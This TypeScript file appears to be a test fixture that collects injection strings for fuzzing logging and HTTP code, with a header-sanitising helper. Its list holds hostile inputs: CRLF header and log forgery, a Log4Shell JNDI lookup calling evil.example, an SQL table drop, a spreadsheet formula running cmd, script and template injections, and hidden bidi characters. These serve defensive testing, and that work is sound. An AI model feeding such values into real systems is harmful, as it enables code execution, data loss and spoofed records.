/** Characters that could end a line, hide in one or turn it around; one of each. */
const hidden = [
  ...Array.from({ length: 33 }, (_, code) => String.fromCharCode(code)),
  ...Array.from({ length: 33 }, (_, code) => String.fromCharCode(0x7f + code)),
  // Marks of direction and format, separators of lines, private use, tags, a noncharacter.
  ...'\u061c\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029\ufeff\ufff9\ue000\u{e0001}\u{e0041}\uffff',
];

/** Texts made to look like lines, headers, pages or code of ours. */
const forged = [
  '\n{"level":30,"event":"admin logged in"}',
  '\r\n{"level":60,"event":"forged"}',
  '","event":"forged","x":"',
  '\\","event":"forged',
  '\\n{"event":"forged"}',
  '\u001b]0;title\u0007\u001b[2J\u001b[31m',
  '\u009b31m',
  '\r\nSet-Cookie: a=forged',
  '\r\n\r\n<html>forged',
  '\nLocation: https://evil.example/forged',
  '%0d%0aSet-Cookie:%20a=forged',
  '%E5%98%8A%E5%98%8DSet-Cookie:%20forged',
  '\u560a\u560dSet-Cookie: forged',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is written like this
  '${jndi:ldap://evil.example/forged}',
  '%s%n%d{{7*7}}#{7*7}<%=7*7%>',
  '<script>forged</script>',
  "'; drop table visits;--",
  "=cmd|'/c forged'!A1",
  '__proto__',
  'x'.repeat(3000),
  'a\u202eb'.repeat(300),
  '👩‍🔧'.repeat(100),
];
/** What tests put wherever a stranger may write. */
export const injections: readonly string[] = [
  ...hidden.map((character) => `before${character}after`),
  ...forged,
];

/** What of a text a header can carry at all; the rest is refused by HTTP itself, which `listen-abuse` shows. */
export const headerText = (text: string): string =>
  text.replace(/[^\t\x20-\x7e\x80-\xff]/g, '').slice(0, 2000);
